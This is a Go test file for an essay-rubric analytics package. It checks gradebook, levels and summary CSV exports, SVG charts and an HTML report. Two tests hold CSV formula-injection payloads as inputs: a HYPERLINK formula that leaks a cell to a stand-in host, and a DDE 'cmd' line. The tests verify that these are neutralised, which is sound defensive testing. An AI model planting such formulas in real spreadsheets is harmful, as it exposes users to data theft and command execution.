package analytics

import (
	"strings"
	"testing"
)

func completeClass(t *testing.T) Summary {
	in := smallClass(t)
	for i := range in.Students {
		in.Students[i].Levels["conventions"] = "proficient"
	}
	in.Students = in.Students[1:] // drop D: a rostered student without feedback
	s, err := Summarize(in, Options{Names: true})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestGradebookCSV(t *testing.T) {
	s := completeClass(t)
	got := string(GradebookCSV(s, fixtureRubric(t), "Period 3", []GradebookRow{
		{StudentID: "1001", GivenName: "Zed", FamilyName: "Alpha"},
		{StudentID: "1004", GivenName: "Dee", FamilyName: "Four"},
	}))
	want := "Student,ID,SIS User ID,SIS Login ID,Section," +
		"Essay: Thesis and focus,Essay: Use of evidence and sources,Essay: Analysis and reasoning,Essay: Organization,Essay: Conventions and citation format,Essay\n" +
		"\"    Points Possible\",,,,,4,4,4,4,4,32\n" +
		// A: 3, 2, 1, 4, 3; weighted 2·3 + 2·2 + 2·1 + 4 + 3 = 19.
		"\"Alpha, Zed\",,1001,,Period 3,3,2,1,4,3,19\n" +
		"\"Four, Dee\",,1004,,Period 3,,,,,,\n"
	if got != want {
		t.Errorf("gradebook CSV:\n%s\nwant:\n%s", got, want)
	}
}

func TestNeutralise(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"Avery", "Avery"},
		{"", ""},
		{"=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-2", "-2"},     // a number stays a number
		{"-0.5", "-0.5"}, // likewise
		{"O'Neil = top", "O'Neil = top"},
	} {
		if got := neutralise(tc.in); got != tc.want {
			t.Errorf("neutralise(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// A roster name that is a formula reaches every export as text.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	s := completeClass(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	s.Students[0].Student = evil
	s.Title = "@Essay"
	gb := string(GradebookCSV(s, fixtureRubric(t), "+Period 3", []GradebookRow{{StudentID: "1001", GivenName: "x", FamilyName: evil}}))
	for name, out := range map[string]string{"gradebook": gb, "levels": string(LevelsCSV(s)), "summary": string(SummaryCSV(s))} {
		for i, line := range strings.Split(out, "\n") {
			for _, cell := range strings.Split(line, ",") {
				if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) && strings.Trim(c, "-0123456789.") != "" {
					t.Errorf("%s line %d: cell %q starts a formula", name, i+1, cell)
				}
			}
		}
	}
	if !strings.Contains(gb, `"'=HYPERLINK(`) || !strings.Contains(gb, "'+Period 3") || !strings.Contains(gb, "'@Essay") {
		t.Errorf("gradebook does not neutralise:\n%s", gb)
	}
}

func TestLevelsAndSummaryCSV(t *testing.T) {
	s := completeClass(t)
	lines := strings.Split(strings.TrimSpace(string(LevelsCSV(s))), "\n")
	// Header, then 3 students × 5 criteria, by name: Bea Bravo first.
	if len(lines) != 16 || lines[1] != "1002,Bea Bravo,thesis,Thesis and focus,proficient,Proficient,3" {
		t.Errorf("levels CSV has %d lines; line 1 = %q", len(lines), lines[1])
	}
	sum := strings.Split(strings.TrimSpace(string(SummaryCSV(s))), "\n")
	// Thesis over A, B, C: 2, 2, 1 → Developing 1 (1/3), Proficient 2 (2/3);
	// mean index 5/3, points 8/3; median Proficient; one pair, equal.
	want := "thesis,Thesis and focus,3,0,0,0,1,0.3333333333333333,2,0.6666666666666666,0,0,1.6666666666666667,2.6666666666666665,Proficient,1,1,1,,,too few pairs (1)"
	if sum[1] != want {
		t.Errorf("summary CSV thesis row:\n%s\nwant\n%s", sum[1], want)
	}
}

func TestChartsAndReport(t *testing.T) {
	s := completeClass(t)
	svg, err := LevelsChart(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"<svg ", "<desc>Thesis and focus: Emerging 0, Developing 1, Proficient 2, Advanced 0;", "Conventions and citation format: Emerging 0, Developing 0, Proficient 3, Advanced 0.</desc>", ">Advanced</text>"} {
		if !strings.Contains(string(svg), want) {
			t.Errorf("levels chart lacks %q", want)
		}
	}
	p, err := ProgressChart(LearnerProgress("1001", "Avery & Co", progressData(t)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(p), "<title>Progress: Avery &amp; Co</title>") || !strings.Contains(string(p), "Thesis and focus: Developing → Meets → Proficient") {
		t.Errorf("progress chart lacks its title or description:\n%.600s", p)
	}
	html, err := ReportHTML(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"@media print", "<svg ", "“A&#39;s transitions”", "Zed Alpha", "too few pairs (1)"} {
		if !strings.Contains(string(html), want) {
			t.Errorf("report lacks %q", want)
		}
	}
}
